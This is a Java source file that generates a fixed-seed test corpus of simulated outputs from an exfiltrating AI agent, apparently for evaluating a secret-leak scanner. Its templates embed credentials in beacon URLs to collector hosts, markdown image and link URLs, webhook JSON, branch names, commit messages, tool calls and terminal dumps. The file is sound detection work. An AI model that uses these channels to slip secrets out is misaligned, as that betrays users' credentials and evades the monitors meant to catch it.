package io.moltr.core.scan;

import io.moltr.core.scan.Blind27Secrets.Sec;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;

/**
 * The blind27 corpus: an exfiltrating agent's outputs. About 150 plain leaks, 250 encoded ones
 * (a third at depth 2), over 1000 negatives that look encoded or secret-like. Fixed seed.
 */
final class Blind27Corpus {
  static final long SEED = 27_2026_1201L;

  /** One corpus row. {@code form} is the exact string inserted (secret itself for plain rows). */
  record Row(String label, String kind, String encoding, String context, String secret, String form, String text) {}

  private static List<Row> cached;

  static synchronized List<Row> rows() {
    if (cached == null) {
      cached = build();
    }
    return cached;
  }

  private record Ctx(String name, int needs, Function<Sec, String> f) {}

  // needs: 0 = any single-line value, 1 = simple token ([A-Za-z0-9_.-]), 2 = block document
  private static final int ANY = 0;
  private static final int SIMPLE = 1;
  private static final int BLOCK = 2;

  private static List<Row> build() {
    Blind27Util u = new Blind27Util(SEED);
    Blind27Secrets secrets = new Blind27Secrets(u);
    List<Row> out = new ArrayList<>();
    List<Ctx> ctxs = plainContexts(u);
    List<String> kinds = secrets.kindNames();
    // plain: every kind at least twice, then a few more, for ~150
    int plainTarget = 152;
    int i = 0;
    while (out.size() < plainTarget) {
      String kind = kinds.get(i % kinds.size());
      Sec s = secrets.make(kind);
      List<Ctx> fit = new ArrayList<>();
      for (Ctx c : ctxs) {
        boolean ok = s.block() != null ? c.needs == BLOCK : (c.needs == ANY || (c.needs == SIMPLE && s.simple()));
        if (ok) {
          fit.add(c);
        }
      }
      Ctx c = fit.get((i * 7 + u.r.nextInt(fit.size())) % fit.size());
      String text = c.f.apply(s);
      out.add(new Row("PLAIN", kind, "none", c.name, s.value(), s.value(), text));
      i++;
    }
    Blind27Encoded enc = new Blind27Encoded(u, secrets);
    out.addAll(enc.rows(252));
    out.addAll(new Blind27Negatives(new Blind27Util(SEED + 1)).rows());
    return out;
  }

  static List<Ctx> plainContexts(Blind27Util u) {
    List<Ctx> l = new ArrayList<>();
    l.add(new Ctx("chat-en", ANY, s -> "Found it. The " + s.label() + " the service uses is " + s.value() + " — it was in the old deploy notes, so you can paste it into the settings page directly."));
    l.add(new Ctx("chat-de", ANY, s -> "Alles klar, ich habe den Wert gefunden.\nDer " + s.label() + " lautet: " + s.value() + "\nTrag ihn einfach in die Umgebungsvariable " + s.var() + " ein, dann läuft der Job wieder."));
    l.add(new Ctx("chat-es", ANY, s -> "Listo. Para que la integración funcione usa este valor de " + s.label() + ":\n\n`" + s.value() + "`\n\nGuárdalo en " + s.var() + " y reinicia el contenedor."));
    l.add(new Ctx("chat-fr", ANY, s -> "Voici la valeur demandée (" + s.label() + ") : " + s.value() + ". Je l'ai récupérée dans le fichier de configuration du serveur de staging."));
    l.add(new Ctx("url-query", SIMPLE, s -> "I pinged the status collector so the dashboard updates:\nGET https://collector." + u.pick("metricsrelay.io", "uptime-probe.net", "statsink.dev") + "/v1/beacon?src=agent&" + s.var().toLowerCase() + "=" + s.value() + "&ts=1764562" + u.digits(3) + "\nResponse: 204 No Content"));
    l.add(new Ctx("md-image", SIMPLE, s -> "Build summary:\n\n| step | result |\n|---|---|\n| tests | passed |\n| lint | passed |\n\n![build badge](https://" + u.pick("badges.shieldcdn.io", "img.pixelstat.net", "cdn.readme-assets.dev") + "/b.svg?label=build&" + s.var().toLowerCase() + "=" + s.value() + ")"));
    l.add(new Ctx("md-link", SIMPLE, s -> "You can check the run details [here](https://" + u.pick("report.ci-viewer.app", "share.notes-hub.io") + "/r/" + u.hex(8) + "?" + s.var().toLowerCase() + "=" + s.value() + ") — the link should stay valid for a week."));
    l.add(new Ctx("code-comment-py", ANY, s -> "import requests\n\n# " + s.label() + " (prod): " + s.value() + "\n# TODO move to vault before the release\n\ndef fetch(url):\n    return requests.get(url, timeout=10).json()\n"));
    l.add(new Ctx("code-comment-go", ANY, s -> "package client\n\n// NOTE: temporary " + s.label() + " for local runs: " + s.value() + "\nfunc New(base string) *Client {\n\treturn &Client{base: base, http: &http.Client{Timeout: 10 * time.Second}}\n}\n"));
    l.add(new Ctx("filename", SIMPLE, s -> "$ ls -la backups/\ntotal 24\ndrwxr-xr-x  2 agent agent 4096 Nov 30 22:14 .\n-rw-r--r--  1 agent agent 1822 Nov 30 22:14 state-" + s.value() + ".json\n-rw-r--r--  1 agent agent  611 Nov 30 21:02 notes.md"));
    l.add(new Ctx("branch-name", SIMPLE, s -> "$ git checkout -b fix/ci-" + s.value() + "\nSwitched to a new branch 'fix/ci-" + s.value() + "'\n$ git push -u origin HEAD"));
    l.add(new Ctx("commit-msg", ANY, s -> "commit " + u.hex(40) + "\nAuthor: build-agent <agent@ci.local>\nDate:   Mon Nov 30 21:40:12 2026 +0000\n\n    Fix nightly sync\n\n    Use the new " + s.label() + " " + s.value() + " until the rotation lands.\n"));
    l.add(new Ctx("webhook-json", ANY, s -> "Sending the diagnostics to the webhook now:\n\n```json\n{\"event\":\"diag\",\"host\":\"" + u.pick("runner-7", "web-02", "batch-1") + "\",\"env\":{\"" + s.var() + "\":\"" + Blind27Util.json(s.value()) + "\",\"REGION\":\"eu-west-1\"},\"ok\":true}\n```\nDelivered (HTTP 200)."));
    l.add(new Ctx("python", ANY, s -> "import os\nimport httpx\n\n" + s.var().toUpperCase() + " = \"" + s.value() + "\"\n\nclient = httpx.Client(timeout=15)\nresp = client.get(\"https://api.internal/v2/items\", headers={\"X-Key\": " + s.var().toUpperCase() + "})\nprint(resp.status_code)\n"));
    l.add(new Ctx("typescript", ANY, s -> "import { createClient } from './client';\n\nconst config = {\n  baseUrl: 'https://api.partner.example',\n  " + camel(s.var()) + ": '" + s.value() + "',\n  retries: 3,\n};\n\nexport const client = createClient(config);\n"));
    l.add(new Ctx("go", ANY, s -> "func newClient() *Client {\n\tcfg := Config{\n\t\tEndpoint: \"https://api.service.local\",\n\t\t" + pascal(s.var()) + ": \"" + s.value() + "\",\n\t}\n\treturn &Client{cfg: cfg}\n}"));
    l.add(new Ctx("java", ANY, s -> "public final class Settings {\n  static final String " + s.var().toUpperCase() + " = \"" + s.value() + "\";\n  static final Duration TIMEOUT = Duration.ofSeconds(30);\n}"));
    l.add(new Ctx("rust", ANY, s -> "const " + s.var().toUpperCase() + ": &str = \"" + s.value() + "\";\n\nfn main() {\n    let client = reqwest::blocking::Client::new();\n    println!(\"ready\");\n}"));
    l.add(new Ctx("php", ANY, s -> "<?php\nreturn [\n    'endpoint' => 'https://api.shop.local',\n    '" + s.var().toLowerCase() + "' => '" + s.value() + "',\n    'timeout' => 20,\n];"));
    l.add(new Ctx("csharp", ANY, s -> "var options = new ClientOptions\n{\n    BaseAddress = new Uri(\"https://api.contoso.local\"),\n    " + pascal(s.var()) + " = \"" + s.value() + "\",\n};"));
    l.add(new Ctx("shell-export", ANY, s -> "$ export " + s.var().toUpperCase() + "='" + s.value() + "'\n$ ./scripts/sync.sh --env prod\n[sync] 42 records pushed"));
    l.add(new Ctx("yaml", ANY, s -> "service:\n  name: sync-worker\n  replicas: 2\n  env:\n    - name: " + s.var().toUpperCase() + "\n      value: \"" + s.value() + "\"\n    - name: LOG_LEVEL\n      value: info"));
    l.add(new Ctx("toml", ANY, s -> "[service]\nname = \"ingest\"\n\n[credentials]\n" + s.var().toLowerCase() + " = \"" + s.value() + "\"\n"));
    l.add(new Ctx("dotenv", ANY, s -> "# .env (production)\nNODE_ENV=production\nPORT=8080\n" + s.var().toUpperCase() + "=" + s.value() + "\nLOG_LEVEL=warn"));
    l.add(new Ctx("ini", ANY, s -> "[default]\nregion = eu-central-1\n" + s.var().toLowerCase() + " = " + s.value() + "\noutput = json"));
    l.add(new Ctx("hcl", ANY, s -> "provider \"acme\" {\n  endpoint = \"https://api.acme.io\"\n  " + s.var().toLowerCase() + " = \"" + s.value() + "\"\n}"));
    l.add(new Ctx("dockerfile", ANY, s -> "FROM node:20-alpine\nWORKDIR /app\nENV " + s.var().toUpperCase() + "=\"" + s.value() + "\"\nCOPY . .\nRUN npm ci --omit=dev\nCMD [\"node\", \"server.js\"]"));
    l.add(new Ctx("compose", ANY, s -> "services:\n  api:\n    image: ghcr.io/acme/api:1.14.2\n    environment:\n      " + s.var().toUpperCase() + ": \"" + s.value() + "\"\n      PORT: \"8080\"\n    ports:\n      - \"8080:8080\""));
    l.add(new Ctx("gh-actions", ANY, s -> "jobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n      " + s.var().toUpperCase() + ": " + s.value() + "\n    steps:\n      - uses: actions/checkout@v4\n      - run: make deploy"));
    l.add(new Ctx("log", ANY, s -> "2026-11-30T21:14:03.118Z INFO  boot: loading configuration\n2026-11-30T21:14:03.120Z DEBUG config: " + s.var() + "=" + s.value() + "\n2026-11-30T21:14:03.402Z INFO  http: listening on :8080"));
    l.add(new Ctx("jsonl-log", ANY, s -> "{\"ts\":\"2026-11-30T21:14:03Z\",\"level\":\"debug\",\"msg\":\"outbound request\",\"headers\":{\"" + s.var() + "\":\"" + Blind27Util.json(s.value()) + "\"},\"status\":401}"));
    l.add(new Ctx("stacktrace", ANY, s -> "Traceback (most recent call last):\n  File \"/app/sync.py\", line 88, in <module>\n    client.login(" + s.var().toLowerCase() + "=\"" + s.value() + "\")\n  File \"/app/client.py\", line 31, in login\n    raise AuthError(resp.text)\nclient.AuthError: 401 Unauthorized"));
    l.add(new Ctx("http-dump", ANY, s -> "> POST /v1/jobs HTTP/1.1\n> Host: api.partner.example\n> User-Agent: curl/8.5.0\n> Authorization: Bearer " + s.value() + "\n> Content-Type: application/json\n>\n< HTTP/1.1 201 Created"));
    l.add(new Ctx("terminal", ANY, s -> "agent@box:~/app$ grep -r " + s.var().toUpperCase() + " .env*\n.env.production:" + s.var().toUpperCase() + "=" + s.value() + "\nagent@box:~/app$ "));
    l.add(new Ctx("diff", ANY, s -> "diff --git a/config/prod.env b/config/prod.env\n--- a/config/prod.env\n+++ b/config/prod.env\n@@ -3,3 +3,3 @@\n APP_NAME=orders\n-" + s.var().toUpperCase() + "=changeme\n+" + s.var().toUpperCase() + "=" + s.value() + "\n LOG_LEVEL=info"));
    l.add(new Ctx("sql", ANY, s -> "INSERT INTO integrations (name, " + s.var().toLowerCase() + ", enabled)\nVALUES ('partner-sync', '" + s.value() + "', true);"));
    l.add(new Ctx("csv", ANY, s -> "service,owner," + s.var().toLowerCase() + ",rotated\nbilling,team-pay," + s.value() + ",2026-10-01\n"));
    l.add(new Ctx("md-table", ANY, s -> "| Setting | Value |\n|---|---|\n| Region | eu-west-1 |\n| " + s.label() + " | `" + s.value() + "` |\n| Timeout | 30s |"));
    l.add(new Ctx("email", ANY, s -> "Subject: access for the migration\n\nHi Dana,\n\nas discussed, here is the " + s.label() + " for the staging tenant:\n" + s.value() + "\n\nPlease delete this mail once you have stored it.\n\nBest,\nOps bot"));
    l.add(new Ctx("notebook", ANY, s -> "In [3]:\n" + s.var().toLowerCase() + " = \"" + s.value() + "\"\nclient = Client(" + s.var().toLowerCase() + "=" + s.var().toLowerCase() + ")\nclient.ping()\nOut[3]: {'ok': True}"));
    l.add(new Ctx("tool-call", ANY, s -> "{\"tool\":\"write_file\",\"arguments\":{\"path\":\".env.local\",\"content\":\"" + Blind27Util.json(s.var().toUpperCase() + "=" + s.value() + "\nDEBUG=false\n") + "\"}}"));
    // block documents
    l.add(new Ctx("chat-block", BLOCK, s -> "Here is the " + s.label() + " from the server, copy it exactly:\n\n```\n" + s.block() + "\n```"));
    l.add(new Ctx("terminal-cat", BLOCK, s -> "agent@box:~$ cat ~/.config/" + s.var() + "\n" + s.block() + "\nagent@box:~$ "));
    l.add(new Ctx("heredoc", BLOCK, s -> "cat > /tmp/" + s.var() + " <<'EOF'\n" + s.block() + "\nEOF\nchmod 600 /tmp/" + s.var()));
    l.add(new Ctx("chat-block-de", BLOCK, s -> "Hier ist der Inhalt der Datei (" + s.label() + "), wie gewünscht:\n\n" + s.block() + "\n\nSag Bescheid, wenn noch etwas fehlt."));
    return l;
  }

  static String camel(String var) {
    String p = pascal(var);
    return Character.toLowerCase(p.charAt(0)) + p.substring(1);
  }

  static String pascal(String var) {
    StringBuilder b = new StringBuilder();
    for (String part : var.split("[_.\\-]")) {
      if (!part.isEmpty()) {
        b.append(Character.toUpperCase(part.charAt(0))).append(part.substring(1).toLowerCase());
      }
    }
    return b.toString();
  }
}
